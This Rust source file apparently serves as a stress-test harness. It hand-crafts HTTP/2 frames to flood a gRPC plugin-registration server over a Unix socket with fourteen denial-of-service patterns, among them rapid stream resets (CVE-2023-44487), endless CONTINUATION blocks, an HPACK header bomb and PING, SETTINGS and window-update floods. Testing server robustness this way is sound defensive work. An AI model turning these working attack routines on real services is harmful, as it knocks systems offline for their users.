//! HTTP/2 as an attacker writes it: octets by hand, since no client library sends what is wrong.

use std::io::{self, Write};
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::time::{Duration, Instant};

/// RFC 9113 section 3.4.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Largest payload that a server must take (`SETTINGS_MAX_FRAME_SIZE`).
const MAX_FRAME: usize = 16 * 1024;

/// Frame types of RFC 9113 section 6.
#[derive(Clone, Copy)]
#[repr(u8)]
enum Kind {
    Data = 0,
    Headers = 1,
    Priority = 2,
    Reset = 3,
    Settings = 4,
    Ping = 6,
    WindowUpdate = 8,
    Continuation = 9,
}

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: Kind, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind as u8, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A string literal of HPACK, not in Huffman code and at most 126 octets long.
fn literal(text: &str) -> Vec<u8> {
    let length = u8::try_from(text.len()).unwrap();
    [&[length], text.as_bytes()].concat()
}

/// The header block of a call.
fn call(method: &str) -> Vec<u8> {
    let mut block = vec![0x83, 0x86];
    block.push(0x04);
    block.extend(literal(&format!(
        "/pluginregistration.Registration/{method}"
    )));
    block.push(0x01);
    block.extend(literal("localhost"));
    block.extend([0x0f, 0x10]);
    block.extend(literal("application/grpc"));
    block.push(0x00);
    block.extend(literal("te"));
    block.extend(literal("trailers"));
    block
}

/// What is wrong with a client.
#[derive(Clone, Copy, Debug)]
pub enum Attack {
    /// Another protocol's first line.
    BadPreface,
    /// Noise from the first octet on.
    Noise,
    /// A frame that says that it is 16 MiB long.
    OversizedFrame,
    /// One long field, and a block that names it thousands of times.
    HeaderBomb,
    /// A header block that never ends.
    Continuations,
    /// The same with frames that carry nothing.
    EmptyContinuations,
    /// PINGs, and nobody reads the answers.
    Pings,
    /// SETTINGS, and nobody reads the answers.
    Settings,
    /// Streams that are reset as soon as they are open (CVE-2023-44487).
    Resets,
    /// Whole calls, and nobody reads the answers, for which there is no window either.
    UnreadAnswers,
    /// DATA frames without data.
    EmptyData,
    /// Priorities of streams that never open.
    Priorities,
    /// Windows that grow beyond their limit.
    WindowUpdates,
    /// DATA frames of one octet, as many as the windows take.
    TinyData,
}

impl Attack {
    pub const ALL: [Self; 14] = [
        Self::BadPreface,
        Self::Noise,
        Self::OversizedFrame,
        Self::HeaderBomb,
        Self::Continuations,
        Self::EmptyContinuations,
        Self::Pings,
        Self::Settings,
        Self::Resets,
        Self::UnreadAnswers,
        Self::EmptyData,
        Self::Priorities,
        Self::WindowUpdates,
        Self::TinyData,
    ];

    /// Attacks for so long, with a new connection whenever the last one is cut.
    pub fn run(self, path: &Path, duration: Duration) {
        let end = Instant::now() + duration;
        for chunk in CHUNKS.into_iter().cycle() {
            if Instant::now() > end {
                return;
            }
            // Cut off, or nobody reads: that is how it should go.
            let _ = self.once(path, chunk, end);
            std::thread::sleep(Duration::from_millis(5));
        }
    }

    fn once(self, path: &Path, chunk: usize, end: Instant) -> io::Result<()> {
        let mut client = Client::connect(path)?;
        client.chunk = chunk;
        match self {
            Self::BadPreface => client.send(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")?,
            Self::Noise => client.send(&[0xa5; 4096])?,
            Self::OversizedFrame => {
                client.greet(&[])?;
                client.send(&[0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1])?;
            }
            Self::UnreadAnswers => client.greet(&[(4, 0)])?,
            _ => client.greet(&[])?,
        }
        let mut stream = 1;
        while Instant::now() < end {
            self.step(&mut client, stream)?;
            stream += 2;
        }
        Ok(())
    }

    fn step(self, client: &mut Client, stream: u32) -> io::Result<()> {
        let get_info = || frame(Kind::Headers, END_HEADERS, stream, &call("GetInfo"));
        match self {
            Self::BadPreface => client.send(b"GET / HTTP/1.1\r\n\r\n"),
            Self::Noise | Self::OversizedFrame => client.send(&[0xa5; MAX_FRAME]),
            Self::HeaderBomb => {
                let mut block = call("GetInfo");
                // x: aaaa..., 3,000 octets, into the dynamic table; then as often as the frame has room.
                block.extend([0x40, 1, b'x', 0x7f, 0xb9, 0x16]);
                block.extend([b'a'; 3000]);
                block.resize(MAX_FRAME, 0xbe);
                client.send(&frame(
                    Kind::Headers,
                    END_HEADERS | END_STREAM,
                    stream,
                    &block,
                ))
            }
            Self::Continuations | Self::EmptyContinuations if stream == 1 => {
                client.send(&frame(Kind::Headers, 0, 1, &call("GetInfo")))
            }
            Self::Continuations => {
                // Fields of the static table: legal, and without end.
                client.send(&frame(Kind::Continuation, 0, 1, &[0x90; MAX_FRAME]))
            }
            Self::EmptyContinuations => client.send(&frame(Kind::Continuation, 0, 1, &[])),
            Self::Pings => client.send(&frame(Kind::Ping, 0, 0, &[0; 8])),
            Self::Settings => client.send(&frame(Kind::Settings, 0, 0, &[])),
            Self::Resets => {
                client.send(&get_info())?;
                client.send(&frame(Kind::Reset, 0, stream, &[0, 0, 0, 8]))
            }
            Self::UnreadAnswers => {
                client.send(&get_info())?;
                client.send(&frame(Kind::Data, END_STREAM, stream, &[0; 5]))
            }
            Self::EmptyData if stream == 1 => client.send(&get_info()),
            Self::TinyData if stream <= 7 => client.announce(stream, 60 * 1024),
            Self::TinyData => client.feed(stream % 8, b"x"),
            Self::EmptyData => client.send(&frame(Kind::Data, 0, 1, &[])),
            Self::Priorities => client.send(&frame(Kind::Priority, 0, stream, &[0, 0, 0, 0, 16])),
            Self::WindowUpdates => {
                client.send(&frame(Kind::WindowUpdate, 0, 0, &[0x3f, 0xff, 0xff, 0xff]))
            }
        }
    }
}

/// A connection whose answers nobody reads.
pub struct Client {
    stream: UnixStream,
    /// Small frames go out together: as many as possible in a short time.
    pending: Vec<u8>,
    chunk: usize,
}

/// What is sent at once. Large pieces are more than a server can look at, small ones get further before it takes offence.
const CHUNKS: [usize; 3] = [256, 4 * 1024, 64 * 1024];

impl Client {
    pub fn connect(path: &Path) -> io::Result<Self> {
        let stream = UnixStream::connect(path)?;
        stream.set_write_timeout(Some(Duration::from_millis(200)))?;
        Ok(Self {
            stream,
            pending: Vec::new(),
            chunk: CHUNKS[0],
        })
    }

    fn send(&mut self, octets: &[u8]) -> io::Result<()> {
        self.pending.extend(octets);
        if self.pending.len() < self.chunk {
            return Ok(());
        }
        self.flush()
    }

    /// Sends what has come together.
    pub fn flush(&mut self) -> io::Result<()> {
        let octets = std::mem::take(&mut self.pending);
        self.stream.write_all(&octets)
    }

    /// The preface and these settings.
    pub fn greet(&mut self, settings: &[(u16, u32)]) -> io::Result<()> {
        self.send(PREFACE)?;
        let octets = settings.iter().flat_map(|(key, value)| {
            let value = value.to_be_bytes();
            key.to_be_bytes().into_iter().chain(value)
        });
        let octets: Vec<_> = octets.collect();
        self.send(&frame(Kind::Settings, 0, 0, &octets))
    }

    /// Begins a notification whose message is said to be `length` octets long.
    pub fn announce(&mut self, stream: u32, length: u32) -> io::Result<()> {
        let headers = call("NotifyRegistrationStatus");
        self.send(&frame(Kind::Headers, END_HEADERS, stream, &headers))?;
        let head = [&[0], length.to_be_bytes().as_slice()].concat();
        self.send(&frame(Kind::Data, 0, stream, &head))
    }

    /// A part of it.
    pub fn feed(&mut self, stream: u32, octets: &[u8]) -> io::Result<()> {
        self.send(&frame(Kind::Data, 0, stream, octets))
    }

    /// A header block without an end.
    pub fn open_block(&mut self, octets: usize) -> io::Result<()> {
        self.send(&frame(Kind::Headers, 0, 1, &call("GetInfo")))?;
        self.send(&frame(Kind::Continuation, 0, 1, &vec![0x90; octets]))
    }
}
